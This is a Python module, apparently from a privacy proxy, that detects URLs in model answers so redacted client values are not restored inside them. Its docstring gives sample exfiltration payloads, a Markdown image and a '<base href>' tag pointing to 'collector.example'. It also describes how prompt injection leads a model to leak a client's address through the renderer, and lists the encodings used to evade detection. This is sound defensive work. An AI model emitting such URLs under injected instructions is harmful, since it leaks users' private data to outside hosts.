"""Where a restore must not write the client's values: inside a URL with a network scheme (issue 12, atk9 A-L2).

A model told by an injected instruction to write `![s](https://collector.example/p.png?u=<EMAIL_ADDRESS_1>)` would
get the client's own renderer to fetch the URL with the real address in it, once restore filled it in. So a
placeholder or a synthesized value inside such a URL stays as it is (`proxy.guard.vault.Vault.restore`).

A URL starts at a network scheme (`http:`, `https:`, `ftp:`, `ftps:`, `ws:`, `wss:`, the colon also written as an
HTML entity or a JSON `\\u003a`), at `//` (or backslashes, which browsers read as slashes: scheme-relative) not
after a word, or at `www.`; it runs to the first character that ends it where it stands:
- after `="` / `='` (an HTML attribute: `src`, `href`, `srcset`, `action`...) or CSS `url("` / `url('`: the
  closing quote (a space or a line break inside is fetched as `%20`, or dropped);
- after `<` (a Markdown autolink or `](<...>)` target): a `>` or a line break;
- elsewhere (a bare URL, a Markdown `](...)` target, a JSON string): whitespace, `"`, `<`, `>` or a backtick.
The string value of a JSON key named as a URL (`"url": "collector.example/?u=..."`, `url_key`) is a URL whole,
scheme or not, to the string's end (tool-call arguments, streamed or not).
A placeholder (`<EMAIL_ADDRESS_1>`) is part of the URL it stands in, never its end. Which characters end a URL is
decided by the text before them only, so a stream knows whether a placeholder is inside a URL when it arrives:
`url_context` is what a channel keeps of the text it released (`proxy.guard.windows`).

Any other scheme followed by `//` and a host (`file://host/`, `smb://`, `sftp://`, `ldap://`, `gopher://`) starts a
URL too (atk11 A-L2): a renderer may connect to that host.

The scheme is also read as renderers read it (atk11 A-H1), on a view of the text (`_view`) with HTML character
references decoded (`&#104;ttps`, `htt&#112;s`, `ht&Tab;tps`), Markdown backslash escapes and JSON escapes taken off
(`https\\://`, `\\u0068ttps`) and ASCII tab, LF and CR removed, as the WHATWG URL parser removes them (`ht\\ttps`,
`/\\t/host`); where the URL ends is read on the text as written (the body rules above).

`mailto:` and `tel:` are no network schemes (nothing is fetched; the address is the client's own): restored.
A URL the client itself sent is restored (`Vault.note_urls`): a placeholder whose URL, from its start through the
placeholder, is the start of a URL of the client's redacted request, as the provider saw it.
A relative URL (`/p.png?u=...`) goes to the client's own host: restored, unless the answer holds a `<base>` tag or an
`xml:base` attribute (atk11 A-L3: `<base href="https://collector.example/">` sends every relative URL there): then
the value of a URL attribute (`src`, `href`, `srcset`, `action`...), of CSS `url(` and of a Markdown link target or
reference definition is a URL too, whatever it starts with but a scheme (`mailto:`, `tel:`). A stream's or the
answer's earlier texts tell it with `BASE` at the start of their context (`url_context`, `url_befores`).

The texts of one answer are read in order for URLs (atk11 A-H3: a URL opened in one Anthropic text block, Responses
part or chat content part and going on in the next, which the SDKs join): each text is read after the context of
the ones before it (`url_befores`; streams: `proxy.guard.windows`).
"""

from __future__ import annotations

import bisect
import html
import re
from collections.abc import Sequence

_PLACEHOLDER = r"<[A-Z][A-Z0-9_]*_\d+(?:_[a-z2-7]{8})?>"  # `proxy.guard.vault.PLACEHOLDER`, tag included
# After a JSON escape (`\n`, `\t`...) a scheme or `www.` is at a word's start, though a letter precedes it.
_AFTER_ESCAPE = r"(?<=\\[nrtbf])"
START = re.compile(  # the lookahead first: a position that starts none is passed over fast
    rf"(?i)(?=[hfw/\\&\"])(?:(?P<key>\\?\"[\w-]{{0,40}}?(?:url|uri|href|src|srcset)\\?\"\s{{0,8}}:\s{{0,8}}"
    rf"(?P<esc>\\?)\")"
    rf"|(?:(?<![a-z0-9+.\-])|{_AFTER_ESCAPE})(?:https?|ftps?|wss?)"
    rf"(?::|&#0*58;?|&#x0*3a;?|&colon;|\\u003a)"
    rf"|(?:(?<![\w:/\\])|{_AFTER_ESCAPE})(?:[/\\]|&#0*47;?|&#x0*2f;?|&sol;|\\u002f){{2,}}(?=[^\s/\\])"
    rf"|(?:(?<![\w.\-])|{_AFTER_ESCAPE})www\.(?=[^\s.]))")
# The same starts read on the view (`_view`: references and escapes decoded, tab/LF/CR removed) when it differs.
_VIEW_START = re.compile(
    r"(?i)(?=[hfw/\\])(?:(?<![a-z0-9+.\-])(?:https?|ftps?|wss?):"
    r"|(?<![\w:/\\])[/\\]{2,}(?=[^\s/\\])"
    r"|(?<![\w.\-])www\.(?=[^\s.]))")
# Any other scheme (2 to 32 letters, digits, `+.-`, a letter first) with `//` and a host, `file:` with backslashes
# too (atk11 A-L2: `file://host/`, `smb://`, `sftp://`), on the text and on the view (`_schemed`): found at its colon.
_SLASHES = re.compile(r":[/\\]{2}(?=[^\s/\\])")
_SCHEME_CHARS = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+.-")
# What the view decodes or removes: an HTML character reference, a JSON `\uXXXX`, a Markdown (or JSON) backslash
# escape of ASCII punctuation, a JSON `\t` `\n` `\r`, and tab, LF and CR.
_TOKEN = re.compile(r"&(?:#[0-9]{1,32}|#[xX][0-9a-fA-F]{1,32}|[A-Za-z][A-Za-z0-9]{1,31});?"
                    r"|\\u[0-9a-fA-F]{4}|\\[!-/:-@\[-`{-~tnr]|[\t\n\r]")
_REMOVED = str.maketrans("", "", "\t\n\r")
# A `<base>` tag or an `xml:base` attribute: relative URLs resolve against a host the answer names (atk11 A-L3).
_BASE_TAG = re.compile(r"(?i)<base[\s/>]|\bxml:base\s*=")
BASE = "\x01"  # at the start of a context (`url_context`): the text before held a `<base>` tag
# Where a relative URL starts once a base is set: a URL attribute's value, CSS `url(`, a Markdown link target or a
# reference definition's (the quote or `<` that opens it in a group: its body).
_RELATIVE = re.compile(
    r"(?im)(?:\b(?:src|href|srcset|imagesrcset|action|formaction|poster|background|data|cite|ping|lowsrc|dynsrc"
    r"|longdesc|codebase|manifest|icon|base)\s*=\s*(?P<q>\\?[\"'])?"
    r"|\burl\(\s*(?P<c>\\?[\"'])?|\]\(\s*(?P<a><)?|^[ ]{0,3}\[[^\]\n]{1,999}\]:[ \t]*(?P<r><)?)")
_SCHEMED = re.compile(r"(?i)[a-z][a-z0-9+.\-]*:")
_QUOTED = re.compile(r"(?i)(?:=|\burl\()\s*\\?([\"'])\Z")  # read with the whitespace after it taken off
_BODY_DEFAULT = re.compile(rf"(?:{_PLACEHOLDER}|[^\s\"<>`])*")
_BODY_ANGLED = re.compile(rf"(?:{_PLACEHOLDER}|[^<>\n])*")
_BODY_QUOTED = {'"': re.compile(r'[^"]*'), "'": re.compile(r"[^']*")}
_BODY_JSON = re.compile(r'(?:[^"\\]|\\.)*')  # a JSON string's contents (an escaped quote is one of them)
_OPENER_READ = 16  # characters before a URL's start read for its opener (`src = \"`, `url( '`)
_CONTEXT_TAIL = 96  # what `url_context` keeps before an open URL: its opener
_TAIL_KEEP = 256  # what it keeps of text outside one (runs of removed characters folded: `_fold`): a start (spelled
# with references too), an opener or a JSON key (`"image_url": "`) cut across chunks
_CONTEXT_MAX = 4096  # the longest open URL `url_context` keeps as it is (longer: its start and a mark)
# What a text is read after for URLs (`proxy.guard.vault.Vault.restore`): a context, or several.
Before = str | tuple[str, ...]
MARK = "\x00"  # stands for the part of a long URL `url_context` dropped (never in a noted client URL)


def url_spans(text: str) -> list[tuple[int, int, bool]]:
    """The URLs with a network scheme in `text`: (start, end, open), `open` when the URL runs to the text's end
    (it may go on in what follows)."""
    return [(start, end, end == len(text)) for start, _, end in _spans(text)]


def _spans(text: str) -> list[tuple[int, int, int]]:
    """(start, end of its scheme or opener, end) of each URL of `text` (`url_spans`)."""
    out: list[tuple[int, int, int]] = []
    view, origin = _view(text)
    based = BASE in text or _BASE_TAG.search(text) is not None
    pos = 0
    while True:
        # The next start on the text, on the view (mapped back onto the text), of another scheme, of a relative URL
        # (a base set): the first wins (at the same place: the first of these).
        found: list[tuple[int, int, int, re.Pattern[str] | None]] = []  # (start, rank, end of the start, body)
        m = START.search(text, pos)
        if m is not None and m.group("key") is not None:  # a JSON URL field (`"url": "...`, `url_key`): its string
            found.append((m.end(), 0, m.end(), _BODY_QUOTED['"'] if m.group("esc") else _BODY_JSON))
        elif m is not None:
            found.append((m.start(), 0, m.end(), None))
        if origin:
            at = bisect.bisect_left(origin, pos)
            v = _first(_VIEW_START.search(view, at), _schemed(view, at))
            if v is not None:
                found.append((origin[v[0]], 1, origin[v[1]], None))
        g = _schemed(text, pos)
        if g is not None:
            found.append((g[0], 2, g[1], None))
        r = _relative(text, pos) if based else None
        if r is not None:
            found.append((r[0], 3, r[1], r[2]))
        if not found:
            return out
        start, _, head, body = min(found, key=lambda f: (f[0], f[1]))
        if body is None:
            body = _body(text, start)
        end = body.match(text, head).end()  # type: ignore[union-attr]  # `*`: always matches
        out.append((start, head, end))
        pos = max(end, head, start + 1)


def _first(m: re.Match[str] | None, other: tuple[int, int] | None) -> tuple[int, int] | None:
    """The span of whichever of a match and a span starts first."""
    if m is not None and (other is None or m.start() <= other[0]):
        return m.start(), m.end()
    return other


def _schemed(text: str, pos: int) -> tuple[int, int] | None:
    """(start, end) of the next scheme with `//` and a host from `pos` that `START` does not read (`_SLASHES`)."""
    for m in _SLASHES.finditer(text, pos):
        colon = a = m.start()
        while a > 0 and colon - a <= 32 and text[a - 1] in _SCHEME_CHARS:
            a -= 1
        if colon - a > 32 or colon - a < 2 or a < pos or not ("a" <= text[a].lower() <= "z"):
            continue
        if "\\" in m.group() and text[a:colon].lower() != "file":
            continue  # backslashes are slashes to the special schemes only
        return a, m.end()
    return None


def _body(text: str, start: int) -> re.Pattern[str]:
    """How the URL starting at `start` ends, by its opener: a quote, a `<`, or neither."""
    last = text[max(0, start - _OPENER_READ):start].rstrip()
    if last.endswith(("\"", "'")):
        quoted = _QUOTED.search(last)
        if quoted is not None:
            return _BODY_QUOTED[quoted.group(1)]
    elif last.endswith("<"):
        return _BODY_ANGLED
    return _BODY_DEFAULT


def _relative(text: str, pos: int) -> tuple[int, int, re.Pattern[str]] | None:
    """The next relative URL from `pos` once a base is set (`_RELATIVE`): (start, start, its body); a value that
    starts with a scheme is none (`mailto:`, `tel:`; a network one is read as such)."""
    for m in _RELATIVE.finditer(text, pos):
        at = m.end()
        if _SCHEMED.match(text, at) is not None:
            continue
        quote = m.group("q") or m.group("c")
        body = _BODY_QUOTED[quote[-1]] if quote else _BODY_ANGLED if m.group("a") or m.group("r") \
            else _BODY_DEFAULT
        if quote is None and at < len(text) and text[at] in "\"'>)":
            continue  # an empty target
        return at, at, body
    return None


def _view(text: str) -> tuple[str, list[int]]:
    """`text` as a renderer reads a URL's scheme (`_TOKEN`: references and escapes decoded, tab/LF/CR removed)
    and, per character of it (and one past its end), where it comes from in `text`; the text itself and no map
    when there is nothing to decode."""
    if "&" not in text and "\\" not in text:  # tab, LF and CR only (most texts): removed at C speed
        view = text.translate(_REMOVED)
        if len(view) == len(text) or (_VIEW_START.search(view) is None and _SLASHES.search(view) is None):
            return text, []  # nothing to decode, or no start in the view at all
        kept = [i for i, c in enumerate(text) if c not in "\t\n\r"]
        kept.append(len(text))
        return view, kept
    tokens = list(_TOKEN.finditer(text))
    if not tokens:
        return text, []
    parts: list[str] = []
    origin: list[int] = []
    pos = 0
    for t in tokens:
        a, b = t.span()
        if a > pos:
            parts.append(text[pos:a])
            origin.extend(range(pos, a))
        raw = t.group()
        if raw[0] == "&":
            decoded = html.unescape(raw)
        elif raw[:2] == "\\u":
            decoded = chr(int(raw[2:], 16))
        elif raw[0] == "\\":
            decoded = raw[1] if raw[1] not in "tnr" else ""
        else:
            decoded = ""
        decoded = decoded.translate(_REMOVED)
        parts.append(decoded)
        origin.extend([a] * len(decoded))
        pos = b
    parts.append(text[pos:])
    origin.extend(range(pos, len(text) + 1))
    return "".join(parts), origin


# Folded in what `url_context` keeps of text outside a URL: a run of what the view removes (tab, LF, CR, as written
# or as a reference or escape) to its first and last; a reference's leading zeros to one.
_RUN = re.compile(r"(?:[\t\n\r]|&(?:Tab|NewLine);|&#0*(?:9|10|13);?|&#[xX]0*[9aAdD];?|\\[tnr]|\\u000[9aAdD])"
                  r"(?:(?:[\t\n\r]|&(?:Tab|NewLine);|&#0*(?:9|10|13);?|&#[xX]0*[9aAdD];?|\\[tnr]|\\u000[9aAdD])+)")
_EACH = re.compile(r"[\t\n\r]|&(?:Tab|NewLine);|&#0*(?:9|10|13);?|&#[xX]0*[9aAdD];?|\\[tnr]|\\u000[9aAdD]")
_ZEROS = re.compile(r"(&#[xX]?)0{2,}(?=[0-9a-fA-F])")


def _fold(text: str) -> str:
    def run(m: re.Match[str]) -> str:
        each = _EACH.findall(m.group())
        return each[0] + each[-1] if len(each) > 2 else m.group()

    return _ZEROS.sub(r"\g<1>0", _RUN.sub(run, text))


def url_context(text: str) -> str:
    """What a stream keeps of released `text` to read what follows it: from the opener of a URL still open at its
    end (a long one: its start, then `MARK`), else its last characters (a URL's start or opener cut in two); after
    `BASE` when `text` held a `<base>` tag (or began with `BASE`)."""
    based = BASE in text or _BASE_TAG.search(text) is not None
    mark = BASE if based else ""
    spans = _spans(text)
    if spans and spans[-1][2] == len(text):
        start, scheme, _ = spans[-1]
        head = max(0, start - _CONTEXT_TAIL)
        if len(text) - head <= _CONTEXT_MAX:
            return mark + text[head:].replace(BASE, "")
        return mark + _fold(text[head:max(scheme, start + 1)]).replace(BASE, "") + MARK
    return mark + _fold(text)[-_TAIL_KEEP:].replace(BASE, "")


def url_befores(texts: Sequence[str]) -> list[str]:
    """The context each of an answer's `texts` is read after for URLs (`url_context` of the ones before it, joined
    as the client's SDK joins them: atk11 A-H3); `BASE` in each when one of them holds a `<base>` tag."""
    based = any(BASE in t or _BASE_TAG.search(t) is not None for t in texts)
    out: list[str] = []
    ctx = BASE if based else ""
    for text in texts:
        out.append(ctx)
        ctx = url_context(ctx + text)
    return out


_URL_KEYS = ("url", "uri", "href", "src", "srcset")


def url_key(key: str | int) -> bool:
    """A field named as a URL (`url`, a citation's; `image_url`, `href`, `src`): its whole text is one."""
    return isinstance(key, str) and key.lower().endswith(_URL_KEYS)
